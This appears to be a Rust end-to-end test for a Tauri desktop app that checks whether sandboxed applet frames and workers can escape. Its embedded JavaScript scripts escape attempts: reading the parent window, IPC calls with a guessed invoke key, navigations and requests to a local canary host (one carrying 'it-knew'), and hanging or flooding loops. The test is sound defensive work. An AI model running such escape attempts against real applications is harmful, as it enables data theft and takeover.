//! The frame of an applet's own page in the real window: WebKit, the app's own scheme and policies, through WebDriver. The same
//! attacks run in Chromium (ui/e2e/applets.test.ts); here is what depends on the real window: its scheme, its commands, and
//! that WebKit runs a frame in the window's own thread and its workers in theirs.

use anyhow::Context;
use serde_json::{Value, json};
use std::net::{Ipv4Addr, TcpListener};
use std::path::Path;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;
use system_tests::desktop::{App, Desktop, Launch, alone, eventually};

/// Puts the applet's frame into the window as the wizard does, keeps what it sends, and how long the window was ever held up.
const OPEN: &str = "
    const [src, sandbox] = arguments;
    document.querySelector('#attack')?.remove();
    const frame = document.createElement('iframe');
    frame.id = 'attack';
    if (sandbox) frame.setAttribute('sandbox', 'allow-scripts');
    window.heard = [];
    window.held = { longest: 0, last: performance.now() };
    clearInterval(window.ticking);
    window.ticking = setInterval(() => {
        const now = performance.now();
        window.held.longest = Math.max(window.held.longest, now - window.held.last);
        window.held.last = now;
    }, 20);
    frame.onload = () => {
        const line = new MessageChannel();
        line.port1.onmessage = ({ data }) => window.heard.length < 1000 && window.heard.push(String(data));
        frame.contentWindow.postMessage('muster', '*', [line.port2]);
        line.port1.postMessage(JSON.stringify({ hello: { language: 'en', texts: [], scheme: 'light', accent: null } }));
        window.line = line.port1;
    };
    frame.style.cssText = 'position: fixed; inset: 40px; width: 600px; height: 400px; background: white; z-index: 9999';
    frame.src = src;
    document.body.append(frame);";

/// What an applet's program tries; each attempt is told by what came of it.
const ATTEMPTS: &str = "
    const found = [];
    const attempt = async (name, work) => {
        try {
            const late = new Promise((_, no) => setTimeout(() => no(new Error('late')), 1500));
            const got = await Promise.race([work(), late]);
            found.push(name + ': ' + (got === undefined || got === null || got === '' ? 'nothing' : 'REACHED ' + got));
        } catch (error) { found.push(name + ': ' + error.name) }
    };
    const event = (target, good) =>
        new Promise((yes, no) => { target['on' + good] = () => yes(good); target.onerror = () => no(new TypeError('refused')) });
";

const LOGIC: &str = "
    await attempt('fetch', () => self.fetch('CANARY/fetch').then(() => 'fetch'));
    await attempt('socket', () => event(new self.WebSocket('CANARY/'.replace('http', 'ws')), 'open'));
    await attempt('script', () => { self.importScripts('CANARY/script.js'); return 'script' });
    await attempt('database', () => event(self.indexedDB.open('kept'), 'success'));
    await attempt('nested', () => event(new self.Worker('data:text/javascript,postMessage(1)'), 'message'));
    await attempt('eval', () => self.eval('1'));
    await attempt('constructor', () => (() => {}).constructor('return 1')());
    await attempt('ipc', () => self.fetch('ipc://localhost/start_state').then(() => 'ipc'));
    await attempt('tauri', () => self.__TAURI_INTERNALS__ ?? self.__TAURI__ ?? self.webkit);
";

/// The frame's own document, as if somebody had taken it over. `done` is WebDriver's.
const FRAME: &str = "
    const done = arguments[arguments.length - 1];
    const element = (name, more) => new Promise((yes, no) => {
        const made = document.createElement(name);
        made.onload = () => yes('loaded');
        made.onerror = () => no(new TypeError('refused'));
        for (const [key, value] of Object.entries(more)) made.setAttribute(key, value);
        document.body.append(made);
    });
    (async () => {
        await attempt('parent document', () => window.parent.document.title);
        await attempt('parent commands', () => window.parent.__TAURI_INTERNALS__);
        await attempt('commands', () => window.__TAURI_INTERNALS__ ?? window.__TAURI__);
        await attempt('ipc', () => fetch('ipc://localhost/start_state', { method: 'POST', body: '{}' }).then(() => 'ipc'));
        await attempt('handler', () => {
            const handler = window.webkit?.messageHandlers?.ipc;
            // Without the key of the window nothing is done, and nothing is answered.
            handler?.postMessage(JSON.stringify({ cmd: 'set_preference', callback: 1, error: 2,
                payload: { key: 'attack', value: 'reached' }, options: {}, __TAURI_INVOKE_KEY__: 'guessed' }));
        });
        await attempt('top navigation', () => { window.top.location.href = 'CANARY/top' });
        await attempt('popup', () => window.open('CANARY/popup'));
        await attempt('fetch', () => fetch('CANARY/fetch').then(() => 'fetch'));
        await attempt('socket', () => event(new WebSocket('CANARY/'.replace('http', 'ws')), 'open'));
        await attempt('image', () => element('img', { src: 'CANARY/image' }));
        await attempt('script', () => element('script', { src: 'CANARY/script.js' }));
        await attempt('style sheet', () => element('link', { rel: 'stylesheet', href: 'CANARY/style.css' }));
        await attempt('style url', () => { document.body.style.backgroundImage = 'url(CANARY/background)' });
        await attempt('form', () => {
            const made = document.createElement('form');
            made.action = 'CANARY/form';
            document.body.append(made);
            made.submit();
        });
        await attempt('inline script', () => {
            const made = document.createElement('script');
            made.textContent = 'window.ran = 1';
            document.body.append(made);
            return window.ran;
        });
        await attempt('cookie', () => { document.cookie = 'a=b'; return document.cookie });
        await attempt('local storage', () => String(window.localStorage.length));
        await attempt('database', () => event(indexedDB.open('kept'), 'success'));
        await attempt('meta refresh', () => {
            const made = document.createElement('meta');
            made.httpEquiv = 'refresh';
            made.content = '0;url=CANARY/refresh';
            document.head.append(made);
        });
        done(found);
    })();";

#[test]
fn an_applet_stays_in_its_frame_and_cannot_hold_up_the_window() {
    alone("an_applet_stays_in_its_frame_and_cannot_hold_up_the_window", || async {
        let desktop = Desktop::start().await?;
        let canary = Canary::listen()?;
        let folder = tempfile::tempdir()?;
        let applet = |name: &str, logic: &str| applet(folder.path(), name, &logic.replace("CANARY", &canary.address));
        let attempts = format!(
            "(async () => {{ {ATTEMPTS} {LOGIC} muster.draw(muster.html`<pre id=\"found\">${{found.join('\\n')}}</pre>`) }})()"
        );
        let applets = [
            applet("escape", &attempts)?,
            applet("loop", "muster.draw('<p id=\"here\">here</p>'); setTimeout(() => { for (;;) {} }, 500)")?,
            applet("crash", "throw new Error('no licence')")?,
            applet("markup", "muster.draw('<iframe></iframe>')")?,
            applet("flood", "for (;;) { try { muster.say('x') } catch {} }")?,
        ];
        let arguments: Vec<String> = applets.into_iter().flat_map(|path| ["--applet".to_owned(), path]).collect();
        let app = App::start(&desktop, &Launch { arguments, ..Launch::default() }).await?;
        let outcome = attacks(&desktop, &app, &canary).await;
        desktop.or_picture(outcome).await
    });
}

async fn attacks(desktop: &Desktop, app: &App, canary: &Canary) -> anyhow::Result<()> {
    // Folders on the command line are shown first.
    app.click("preview-leave").await?;
    app.find("start-join").await?;

    // The program of an applet.
    open(app, "escape").await?;
    app.find_css("#attack").await?.enter_frame().await?;
    let found = app.find_css("#found").await?.text().await?;
    desktop.picture("applet-escape").await?;
    anyhow::ensure!(found.lines().count() == 9 && !found.contains("REACHED"), "out of the worker: {found}");

    // Its document, taken over.
    let script = format!("{ATTEMPTS} {FRAME}").replace("CANARY", &canary.address);
    let found: Vec<String> = app.window.execute_async(&script, vec![]).await?.convert()?;
    anyhow::ensure!(
        found.len() == 19 && !found.iter().any(|one| one.contains("REACHED")),
        "out of the frame: {found:#?}"
    );
    app.window.enter_default_frame().await?;
    let place: String = app.window.execute("return location.href", vec![]).await?.convert()?;
    anyhow::ensure!(place.starts_with("tauri://localhost"), "the window went to {place}");
    anyhow::ensure!(app.window.windows().await?.len() == 1, "a window was opened");
    let kept = "const done = arguments[arguments.length - 1];
        window.__TAURI_INTERNALS__.invoke('get_preference', { key: 'attack' }).then(done, (problem) => done(problem.code))";
    let kept: Value = app.window.execute_async(kept, vec![]).await?.json().clone();
    anyhow::ensure!(kept.is_null(), "a command of the window was done for the frame: {kept}");

    // A frame that leads itself elsewhere gets nowhere.
    open(app, "escape").await?;
    app.find_css("#attack").await?.enter_frame().await?;
    let away = format!("location.href = '{}/away?what=it-knew'", canary.address);
    app.window.execute(&away, vec![]).await?;
    app.window.enter_default_frame().await?;

    // What is no applet is nowhere, and nothing but a frame's document is under the scheme.
    for (address, sandbox) in [("applet://localhost/1/nobody/1.0.0/", true), ("applet://localhost/1/loop/9.9.9/", true)]
    {
        app.window.execute(OPEN, vec![json!(address), json!(sandbox)]).await?;
        tokio::time::sleep(Duration::from_millis(300)).await;
        anyhow::ensure!(heard(app).await?.is_empty(), "{address} answers");
    }
    let fetched = "const done = arguments[arguments.length - 1];
        fetch('applet://localhost/1/loop/1.0.0/').then((answer) => answer.text()).then(done, (error) => done(error.name))";
    let fetched: String = app.window.execute_async(fetched, vec![]).await?.convert()?;
    anyhow::ensure!(fetched == "TypeError", "the window reads an applet's document: {fetched}");

    // Without the frame's own sandbox the document's policy makes one.
    app.window.execute(OPEN, vec![json!("applet://localhost/1/loop/1.0.0/"), json!(false)]).await?;
    app.find_css("#attack").await?.enter_frame().await?;
    let origin: String = app.window.execute("return self.origin", vec![]).await?.convert()?;
    app.window.enter_default_frame().await?;
    anyhow::ensure!(origin == "null", "its origin is {origin}");

    // A loop without end: the worker stands still, the window does not.
    for name in ["loop", "flood"] {
        open(app, name).await?;
        eventually("it has started", || async { Ok(heard(app).await?.iter().any(|one| one.contains("started"))) })
            .await?;
        tokio::time::sleep(Duration::from_secs(2)).await;
        app.window.execute("window.heard.length = 0; window.line.postMessage('{\"ping\":7}')", vec![]).await?;
        tokio::time::sleep(Duration::from_secs(1)).await;
        let answers = heard(app).await?;
        anyhow::ensure!(!answers.iter().any(|one| one.contains("pong")), "{name} answers: {answers:?}");
        let longest: f64 = app.window.execute("return window.held.longest", vec![]).await?.convert()?;
        anyhow::ensure!(longest < 1000.0, "{name} held the window up for {longest} ms");
    }

    // A crash, and markup that is not for drawing: told, and over.
    for (name, reason) in [("crash", "crashed"), ("markup", "drawing")] {
        open(app, name).await?;
        let told = format!(r#"{{"ended":{{"reason":"{reason}""#);
        eventually("it is told", || async { Ok(heard(app).await?.iter().any(|one| one.contains(&told))) }).await?;
    }
    let reached = canary.reached();
    anyhow::ensure!(reached == 0, "{reached} connections came to the address that nobody may reach");
    Ok(())
}

async fn open(app: &App, name: &str) -> anyhow::Result<()> {
    app.window.execute(OPEN, vec![json!(format!("applet://localhost/1/{name}/1.0.0/")), json!(true)]).await?;
    Ok(())
}

async fn heard(app: &App) -> anyhow::Result<Vec<String>> {
    Ok(app.window.execute("return window.heard", vec![]).await?.convert()?)
}

/// A folder with an applet that has a page of its own.
fn applet(folder: &Path, name: &str, logic: &str) -> anyhow::Result<String> {
    let folder = folder.join(name);
    std::fs::create_dir(&folder)?;
    let page = json!({ "html": "page.html", "css": "page.css", "logic": "logic.js" });
    let manifest = json!({ "format": 1, "name": name, "version": "1.0.0", "title": name, "page": page });
    for (file, text) in [
        ("applet.json", manifest.to_string().as_str()),
        ("page.html", "<p>Nothing yet</p>"),
        ("page.css", "p { color: var(--quiet) }"),
        ("logic.js", logic),
    ] {
        std::fs::write(folder.join(file), text)?;
    }
    folder.into_os_string().into_string().ok().context("a folder with a plain name")
}

/// An address that nobody may reach, and who did.
struct Canary {
    address: String,
    connections: Arc<AtomicUsize>,
}

impl Canary {
    fn listen() -> anyhow::Result<Canary> {
        let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0))?;
        let address = format!("http://{}", listener.local_addr()?);
        let connections = Arc::new(AtomicUsize::new(0));
        let counted = connections.clone();
        std::thread::spawn(move || {
            for _ in listener.incoming() {
                counted.fetch_add(1, Ordering::SeqCst);
            }
        });
        Ok(Canary { address, connections })
    }

    fn reached(&self) -> usize {
        self.connections.load(Ordering::SeqCst)
    }
}
